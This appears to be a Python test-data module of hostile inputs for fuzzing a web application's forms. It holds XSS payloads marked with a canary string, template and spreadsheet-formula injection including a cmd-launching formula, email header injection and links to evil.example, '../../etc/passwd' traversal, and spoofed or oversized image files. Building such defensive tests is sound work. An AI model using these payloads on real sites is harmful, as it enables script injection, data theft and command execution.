"""What is typed by those who mean harm, and by those who hold down a key.

Holds values only. Markup carries the canary, by which `inert` tells what came alive from what is
ours; `SHORT` is what the suite sends, the whole of it is sent by `make hostile`.
"""

import os
import struct
import zlib
from dataclasses import dataclass

CANARY = "zq7x"
FULL = bool(os.environ.get("LINGYU_HOSTILE_FULL"))

# What would run, if any of it reached a browser as markup. `SUM` must not be worked out by a template.
SUM = ("8317*7", "58219")
MARKUP = [
    f'"><{CANARY} onload=alert(1)><img src=x onerror={CANARY}()>',
    f"'><script>{CANARY}()</script>{{{{{SUM[0]}}}}}{CANARY}",
    f"[{CANARY}](javascript:{CANARY}()) ![{CANARY}](data:text/html;base64,{CANARY})",
    f"<svg/onload={CANARY}()><math><mtext><table><mglyph><style><!--</style><img title='--><{CANARY}>'>",
    f"</title></textarea></script><{CANARY}><script>{CANARY}()</script>",
    f'x" onfocus={CANARY}() autofocus {CANARY}="',
    f'=HYPERLINK("https://evil.example/{CANARY}")',
    f"javascript:{CANARY}()",
    f"\u202e{CANARY}\u2066gpj.exe",
]
MORE_MARKUP = [
    f"<iframe srcdoc='<script>{CANARY}()</script>'></iframe>",
    f"<a href='java\tscript:{CANARY}()'>{CANARY}</a>",
    f"[{CANARY}](<java&#x0a;script:{CANARY}()>)",
    f"[{CANARY}](JaVaScRiPt:{CANARY}()) <javascript:{CANARY}()>",
    f"[{CANARY}][r]\n\n[r]: javascript:{CANARY}()",
    f'```{CANARY}" onclick={CANARY}()\nx\n```',
    f"| a | b |\n|--|--|\n| <img src=x onerror={CANARY}()> | [{CANARY}](vbscript:{CANARY}) |",
    f"<form action=//evil.example/{CANARY}><input name={CANARY}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CANARY}()'>",
    f"<link rel=stylesheet href=//evil.example/{CANARY}.css><style>*{{background:url({CANARY})}}</style>",
    f'<noscript><p title="</noscript><img src=x onerror={CANARY}()>">',
    f"\u003cimg src=x onerror={CANARY}()\u003e \\u003cscript\\u003e{CANARY}()\\u003c/script\\u003e",
    f"&lt;img src=x onerror={CANARY}()&gt; &#60;{CANARY}&#62;",
    f"＜script＞{CANARY}()＜/script＞",
    f"${{{SUM[0]}}} #{{{SUM[0]}}} {{% print({SUM[0]}) %}} {{{{{SUM[0]}}}}} <%= {SUM[0]} %> {CANARY}",
    f"%(title)s %s %n {{0.__class__}} {CANARY}",
    f"]]><{CANARY}/><![CDATA[",
    f"--><{CANARY}><!--",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {CANARY}",
    f"+{CANARY}",
    f"\r\nBcc: {CANARY}@evil.example\r\n\r\n{CANARY}",
    f"\u200b{CANARY}\u200d\ufeff\u2060",
    f"Z\u0351\u036b\u0343\u036a{CANARY}" + "\u0310" * 40,
]
# Rounds in which what is taken is kept: each form is sent another payload in each.
ROUNDS = len(MARKUP + MORE_MARKUP) if FULL else 4


def of_a_round(turn: int, form: int) -> str:
    """What a form is sent to keep: in the short run a part of the first ones, neighbours others.

    Each ends with a sign that turns what follows, which no column may keep.
    """
    values = MARKUP + (MORE_MARKUP if FULL else [])
    return values[(turn * (1 if FULL else 2) + form) % len(values)] + "\u202e"


# Sizes, bytes and signs that are no words.
LONG, HUGE = "长" * 10_000, "x" * 1_000_000
CHARACTERS = [
    "",
    " \t\u3000\u200b",
    f"{CANARY}\0",
    f"{CANARY}\x01\x0b\x1b[31m\x7f\x85",
    LONG,
    "\ufffe\uffff\U0010ffff",
]
NUMBERS = ["-1", "0", "1e400", "NaN", "９９９９９", "9" * 30, "1.5"]
MORE_NUMBERS = [
    "-9223372036854775809",
    "2147483648",
    "Infinity",
    "0x10",
    "1_000",
    "٣",
    "1,5",
    "--1",
    "9" * 5000,
]
IDS = ["not-an-id", "00000000-0000-0000-0000-000000000000", "../../etc/passwd", f"{CANARY}.{CANARY}:sig"]
DATES = ["0001-01-01", "9999-12-31", "2026-02-30", "-5000-01-01"]
MORE_DATES = ["9999-12-31T23:59:59.999999+14:00", "2026-03-29T02:30", "10000-01-01", "0000-00-00", "明天"]
ADDRESSES = [
    "//evil.example/",
    "https://evil.example",
    "javascript:alert(1)",
    "/\\evil.example",
    "https:evil.example",
]


@dataclass(frozen=True)
class Raw:
    """Bytes that are no text in UTF-8, or a file with the name and type that its sender claims."""

    value: bytes
    name: str = ""
    type: str = "image/png"


BROKEN = [Raw(b"\xff\xfe\xc3\x28\xed\xa0\x80")]


def for_kind(kind: str, turn: int, asks: bool = False) -> list:
    """What is sent to a field of a kind; in the short run a few of each, others for every field (`turn`).

    `asks`: of a form that only asks, whose pages cost the most and keep nothing: one of each.
    """
    sets = {
        "text": [MARKUP + MORE_MARKUP, CHARACTERS, BROKEN, *([[HUGE]] if FULL or turn % 4 == 0 else [])],
        "number": [NUMBERS + MORE_NUMBERS, MARKUP, BROKEN],
        "hidden": [IDS, MARKUP, NUMBERS, ADDRESSES, BROKEN],
        "choice": [MARKUP, IDS, NUMBERS, CHARACTERS],
        "date": [DATES + MORE_DATES, MARKUP, NUMBERS],
        "file": [],
    }[kind]
    if FULL:
        return [value for values in sets for value in values]
    each = 1 if asks else 2
    chosen = [values[(turn + n) % len(values)] for values in sets for n in range(min(each, len(values)))]
    # What is too long for a column only one of the databases refuses: every field is sent it.
    return chosen if asks or kind != "text" or LONG in chosen else [LONG, *chosen]


def png(width: int, height: int) -> bytes:
    """A grey picture that claims a size; what it holds is one row."""

    def chunk(kind: bytes, held: bytes) -> bytes:
        return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" + b"\x80" * min(width, 10_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


PICTURE = png(1, 1)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CANARY}()"><script>{CANARY}()</script></svg>'.encode()
)


def files() -> list[tuple[str, bytes]]:
    """Files that lie about what they are, by name."""
    return [
        ("page.png", f"<html><script>{CANARY}()</script>".encode()),
        ("drawing.png", SVG),
        ("drawing.svg", SVG),
        ("both.gif", f"GIF89a/*<svg/onload={CANARY}()>*/=1;".encode()),
        ("cut.png", PICTURE[:40]),
        ("vast.png", png(60_000, 60_000)),
        ("empty.png", b""),
        (f"..%2f..%2f{CANARY}.png", PICTURE),
        (f'{CANARY}"><img src=x onerror={CANARY}()>.png', PICTURE),
        ("table.csv", f"=1+1,{CANARY}\n\0\xff".encode("latin-1")),
    ]
